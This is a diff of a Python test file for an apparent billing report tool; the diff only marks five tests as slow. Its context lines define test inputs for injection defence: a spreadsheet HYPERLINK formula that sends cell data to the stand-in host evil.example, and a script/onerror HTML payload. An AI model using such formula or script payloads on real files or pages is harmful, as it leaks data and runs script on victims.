@@ -121,6 +121,7 @@ HOSTILE_FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details
 HOSTILE_HTML = '<script>document.title="pwned"</script><img src=x onerror="alert(1)">'
 
 
+@pytest.mark.slow
 def test_untrusted_billing_text_is_never_executed(project_dir: Path, tmp_path: Path) -> None:
     _inject(
         project_dir,
@@ -166,6 +167,7 @@ def test_untrusted_billing_text_is_never_executed(project_dir: Path, tmp_path: P
     assert all(c.data_type != "f" for c in raw["Unallocated"]["C"] if isinstance(c.value, str))
 
 
+@pytest.mark.slow
 def test_other_currencies_are_reported_apart_and_control_characters_survive(
     project_dir: Path, tmp_path: Path
 ) -> None:
@@ -215,6 +217,7 @@ def _warnings(config: ProjectConfig, month: str | None = None) -> list[str]:
     return [c.message for c in figures.checks]
 
 
+@pytest.mark.slow
 def test_skipped_rejects_show_as_a_warning_with_their_amount(
     project_dir: Path, tmp_path: Path
 ) -> None:
@@ -255,6 +258,7 @@ def test_skipped_rejects_show_as_a_warning_with_their_amount(
     assert _warnings(config) == []
 
 
+@pytest.mark.slow
 def test_a_currency_with_no_data_is_a_warning_not_zero_tiles(project_dir: Path) -> None:
     roi_toml = project_dir / "roi.toml"
     roi_toml.write_text(roi_toml.read_text().replace('currency = "USD"', 'currency = "EUR"'))
@@ -269,6 +273,7 @@ def test_a_currency_with_no_data_is_a_warning_not_zero_tiles(project_dir: Path) 
     assert "USD" in warning and "set [project] currency" in warning
 
 
+@pytest.mark.slow
 def test_a_large_month_on_month_change_is_a_warning(project_dir: Path) -> None:
     report = project_dir / "reports/monthly_finance.toml"
     report.write_text(report.read_text() + "change_warning = 0.01\n")
